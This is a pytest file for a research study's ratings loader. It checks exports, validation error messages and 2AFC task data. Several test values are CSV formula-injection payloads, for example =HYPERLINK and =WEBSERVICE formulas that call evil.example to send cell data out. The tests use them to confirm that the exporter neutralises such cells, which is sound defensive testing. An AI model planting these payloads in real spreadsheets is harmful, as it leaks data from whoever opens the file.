"""Loading and validating ratings: good files load, malformed ones name the row and column."""

from __future__ import annotations

from csv import reader
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from analysis.load import RatingsError, read_ratings, validate
from analysis.simulate import CrowdSpec, simulate
from service.studies.export import RATINGS_COLUMNS, write_frame
from service.studies.ratings_file import APPENDED_COLUMNS, REQUIRED_COLUMNS

HOSTILE_LABELS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-1", "@SUM(A1)",
                  "\t=1+1", "\r=1+1", " =1+1", "'=1+1", "-", "it's fine", "'quoted'"]


@pytest.fixture
def raw() -> pd.DataFrame:
    return simulate(CrowdSpec(n_annotators=10, n_stimuli=40, ratings_per_item=3, seed=1))[0]


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_simulated_export_round_trips(raw: pd.DataFrame, tmp_path: Path, fmt: str) -> None:
    path = write_frame(raw, tmp_path / f"r.{fmt}", fmt)  # type: ignore[arg-type]
    back = read_ratings(path)
    assert list(back.columns) == list(RATINGS_COLUMNS)
    assert len(back) == len(raw)
    pd.testing.assert_series_equal(back["interpretable"], validate(raw)["interpretable"])
    catch = back[back["condition"].isin(["catch_positive", "catch_negative"])]
    assert catch["stimulus_id"].isna().all() and catch["layer"].isna().all()
    assert back.loc[back["condition"] == "random", "channel"].isna().all()


def _broken(raw: pd.DataFrame, row: int, column: str, value: object) -> pd.DataFrame:
    frame = raw.astype(object).copy()
    frame.loc[row, column] = value
    return frame


@pytest.mark.parametrize(
    ("column", "value", "message"),
    [
        ("condition", "baseline", "row 4, column 'condition': 'baseline' is not one of"),
        ("interpretable", 2, "row 4, column 'interpretable': 2 is not 0 or 1"),
        ("confidence", 7, "row 4, column 'confidence': 7 is not in 1–5"),
        ("confidence", "high", "row 4, column 'confidence': 'high' is not a whole number"),
        ("rt_ms", -5, "row 4, column 'rt_ms': -5 is negative"),
        ("annotator_id", None, "row 4, column 'annotator_id': empty is required"),
        ("stimulus_id", None, "row 4, column 'stimulus_id': empty is required on basis/random"),
        ("catch_item_id", 3, "row 4, column 'catch_item_id': 3 must be empty on basis/random"),
        ("created_at", "yesterday", "row 4, column 'created_at': 'yesterday' is not an ISO"),
    ],
)
def test_bad_values_name_row_and_column(raw: pd.DataFrame, column: str, value: object,
                                        message: str) -> None:
    assert raw.loc[3, "condition"] in ("basis", "random")
    with pytest.raises(RatingsError, match=message):
        validate(_broken(raw, 3, column, value))


def test_bad_csv_names_the_row(raw: pd.DataFrame, tmp_path: Path) -> None:
    path = write_frame(_broken(raw, 9, "confidence", 9), tmp_path / "r.csv", "csv")
    with pytest.raises(RatingsError, match="row 10, column 'confidence'"):
        read_ratings(path)


def test_missing_columns_and_empty_and_unreadable(raw: pd.DataFrame, tmp_path: Path) -> None:
    with pytest.raises(RatingsError, match="missing column\\(s\\): layer, condition"):
        validate(raw.drop(columns=["layer", "condition"]))
    with pytest.raises(RatingsError, match="no ratings"):
        validate(raw.iloc[:0])
    with pytest.raises(RatingsError, match="no such file"):
        read_ratings(tmp_path / "absent.csv")
    garbage = tmp_path / "g.parquet"
    garbage.write_bytes(b"not parquet")
    with pytest.raises(RatingsError, match="cannot read"):
        read_ratings(garbage)


def test_duplicate_rating_ids(raw: pd.DataFrame) -> None:
    with pytest.raises(RatingsError, match="row 2, column 'rating_id'.*duplicate"):
        validate(_broken(raw, 1, "rating_id", raw.loc[0, "rating_id"]))


def test_load_study_from_the_database(engine) -> None:  # type: ignore[no-untyped-def]
    from service.studies.export import ExportError, ratings_frame, stimulus_pngs
    from tests.service.test_export import _build

    ids = _build(engine)
    frame = validate(ratings_frame(engine, ids["study"]))
    assert len(frame) == 4
    assert sorted(frame["condition"].astype(str)) == ["basis", "catch_negative",
                                                      "catch_positive", "random"]
    images = stimulus_pngs(engine, [ids["stim_b"], ids["stim_r"]])
    assert set(images) == {ids["stim_b"], ids["stim_r"]}
    assert all(png.startswith(b"\x89PNG") for png in images.values())
    with pytest.raises(ExportError, match="no study with id 999"):
        ratings_frame(engine, 999)


def _with_appended(raw: pd.DataFrame) -> pd.DataFrame:
    """The simulated ratings with the appended columns filled as the site's export fills them."""
    return raw.assign(
        task="rating", reference=pd.NA, correct=pd.NA, choice=pd.NA,
        annotator_source=pd.array(np.where(raw.index % 2 == 0, "prolific", "mturk"),
                                  dtype="string"),
        question="=WEBSERVICE(\"http://evil.example/\") -1?",
        query_gap=pd.array([pd.NA] * len(raw), dtype="Float64"),
        server_rt_ms=pd.array(range(len(raw)), dtype="Int64"),
    )


@pytest.mark.parametrize("appended", [False, True])
def test_a_neutralised_csv_reads_as_the_parquet_file(raw: pd.DataFrame, tmp_path: Path,
                                                     appended: bool) -> None:
    frame = raw.assign(label=pd.array([HOSTILE_LABELS[i % len(HOSTILE_LABELS)]
                                       for i in range(len(raw))], dtype="string"))
    if appended:
        frame = _with_appended(frame)
    csv = write_frame(frame, tmp_path / "r.csv", "csv")
    parquet = write_frame(frame, tmp_path / "r.parquet", "parquet")
    with csv.open(newline="") as handle:
        cells = [cell for row in reader(handle) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("\t", "\r"))
                or cell.lstrip().startswith(("=", "+", "-", "@"))]
    assert "'" + HOSTILE_LABELS[0] in cells and "''=1+1" in cells and "'-1" in cells
    from_csv, from_parquet = read_ratings(csv), read_ratings(parquet)
    pd.testing.assert_frame_equal(from_csv, from_parquet)
    labels = from_csv["label"].astype("object")
    assert labels[labels.notna()].str.strip().isin([h.strip() for h in HOSTILE_LABELS]).all()
    assert set(labels[labels.notna()]) >= {"-1", "'=1+1", HOSTILE_LABELS[0]}
    if appended:
        assert str(from_csv["question"].iloc[0]) == "=WEBSERVICE(\"http://evil.example/\") -1?"
        assert from_csv["server_rt_ms"].tolist() == list(range(len(raw)))


def test_files_with_and_without_the_appended_columns(raw: pd.DataFrame, tmp_path: Path) -> None:
    old = read_ratings(write_frame(raw[list(REQUIRED_COLUMNS)], tmp_path / "old.csv", "csv"))
    new = read_ratings(write_frame(_with_appended(raw), tmp_path / "new.csv", "csv"))
    assert list(old.columns) == list(new.columns) == list(RATINGS_COLUMNS)
    assert (old["task"] == "rating").all() and (new["task"] == "rating").all()
    for column in APPENDED_COLUMNS[1:]:
        assert old[column].isna().all(), column
    assert new["server_rt_ms"].dtype == "Int64" and new["query_gap"].dtype == "Float64"
    assert set(new["annotator_source"].astype(str)) == {"prolific", "mturk"}
    pd.testing.assert_frame_equal(old[list(REQUIRED_COLUMNS)], new[list(REQUIRED_COLUMNS)])


@pytest.mark.parametrize(
    ("column", "value", "message"),
    [
        ("task", "survey", "row 4, column 'task': 'survey' is not one of rating, 2afc"),
        ("server_rt_ms", -3, "row 4, column 'server_rt_ms': -3 is negative"),
        ("server_rt_ms", "soon", "row 4, column 'server_rt_ms': 'soon' is not a whole number"),
        ("query_gap", "wide", "row 4, column 'query_gap': 'wide' is not a number"),
    ],
)
def test_bad_appended_values_name_row_and_column(raw: pd.DataFrame, column: str, value: object,
                                                 message: str) -> None:
    with pytest.raises(RatingsError, match=message):
        validate(_broken(_with_appended(raw), 3, column, value))


def test_a_bad_number_read_from_a_file_is_shown_as_written(raw: pd.DataFrame,
                                                           tmp_path: Path) -> None:
    frame = raw.copy()
    frame.loc[3, "confidence"] = 7
    path = write_frame(frame, tmp_path / "r.csv", "csv")
    with pytest.raises(RatingsError) as info:
        read_ratings(path)
    assert "row 4, column 'confidence': 7 is not in 1–5" in str(info.value)
    assert "np." not in str(info.value)


@pytest.fixture(scope="module")
def afc() -> pd.DataFrame:
    from analysis.simulate_afc import AfcSpec, simulate_afc

    return simulate_afc(AfcSpec(n_annotators=12, n_stimuli=24, ratings_per_item=3, seed=2))[0]


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_a_2afc_export_round_trips(afc: pd.DataFrame, tmp_path: Path, fmt: str) -> None:
    back = read_ratings(write_frame(afc, tmp_path / f"r.{fmt}", fmt))  # type: ignore[arg-type]
    assert list(back.columns) == list(RATINGS_COLUMNS) and len(back) == len(afc)
    assert (back["task"] == "2afc").all() and back["interpretable"].isna().all()
    assert back["confidence"].between(1, 3).all()
    stimulus = back["condition"].isin(["basis", "random"])
    assert set(back.loc[stimulus, "reference"].astype(str)) == {"synthetic", "natural", "none"}
    assert back.loc[stimulus, "query_gap"].notna().all()
    assert back.loc[~stimulus, "query_gap"].isna().all()
    pd.testing.assert_series_equal(back["correct"], validate(afc)["correct"])


@pytest.mark.parametrize(
    ("column", "value", "message"),
    [
        ("interpretable", 1, "row 4, column 'interpretable': 1 must be empty for the 2afc task"),
        ("confidence", 4, "row 4, column 'confidence': 4 is not in 1–3"),
        ("correct", 2, "row 4, column 'correct': 2 is not 0 or 1"),
        ("correct", None, "row 4, column 'correct': empty is required for the 2afc task"),
        ("choice", None, "row 4, column 'choice': empty is required for the 2afc task"),
        ("choice", 5, "row 4, column 'choice': 5 is not 0 or 1"),
        ("reference", None, "row 4, column 'reference': empty is required on 2afc basis/random"),
        ("reference", "photos", "row 4, column 'reference': 'photos' is not one of synthetic"),
    ],
)
def test_bad_2afc_values_name_row_and_column(afc: pd.DataFrame, column: str, value: object,
                                             message: str) -> None:
    assert afc.loc[3, "condition"] in ("basis", "random")
    with pytest.raises(RatingsError, match=message):
        validate(_broken(afc, 3, column, value))


def test_a_2afc_catch_row_needs_no_reference(afc: pd.DataFrame) -> None:
    catch = int(np.flatnonzero(afc["condition"].to_numpy(dtype=object) == "catch_positive")[0])
    assert len(validate(_broken(afc, catch, "reference", None))) == len(afc)


def test_one_file_holds_one_task(raw: pd.DataFrame, afc: pd.DataFrame) -> None:
    rating = _with_appended(raw)
    mixed = pd.concat([rating.iloc[:5], afc.assign(rating_id=afc["rating_id"] + 10_000)],
                      ignore_index=True)
    with pytest.raises(RatingsError, match="row 6, column 'task': '2afc' but row 1 is 'rating'; "
                                           "a ratings file holds one task"):
        validate(mixed)


@pytest.mark.parametrize("column", ["correct", "choice", "reference"])
def test_rating_rows_leave_the_2afc_columns_empty(raw: pd.DataFrame, column: str) -> None:
    value = "synthetic" if column == "reference" else 1
    with pytest.raises(RatingsError, match=f"column '{column}'.*must be empty for the rating"):
        validate(_broken(_with_appended(raw), 3, column, value))


def test_sessions_file_is_read_and_checked(tmp_path: Path) -> None:
    from analysis.load import read_sessions
    from service.studies.ratings_file import SESSIONS_COLUMNS

    rows = pd.DataFrame({name: [1, 2] for name in SESSIONS_COLUMNS}).assign(
        session_id=[1, 2], total_seconds=[300.5, None], instructions_seconds=[20.0, 3.0])
    good = read_sessions(write_frame(rows, tmp_path / "s.csv", "csv"))
    assert good["total_seconds"].isna().tolist() == [False, True]
    assert good["instructions_seconds"].tolist() == [20.0, 3.0]
    with pytest.raises(RatingsError, match="lacks column\\(s\\): total_seconds"):
        read_sessions(write_frame(rows.drop(columns="total_seconds"), tmp_path / "m.csv", "csv"))
    with pytest.raises(RatingsError, match="row 2, column 'instructions_seconds': -3.0 is negat"):
        read_sessions(write_frame(rows.assign(instructions_seconds=[20.0, -3.0]),
                                  tmp_path / "n.csv", "csv"))
    with pytest.raises(RatingsError, match="row 2, column 'session_id': 1 is a duplicate"):
        read_sessions(write_frame(rows.assign(session_id=[1, 1]), tmp_path / "d.csv", "csv"))
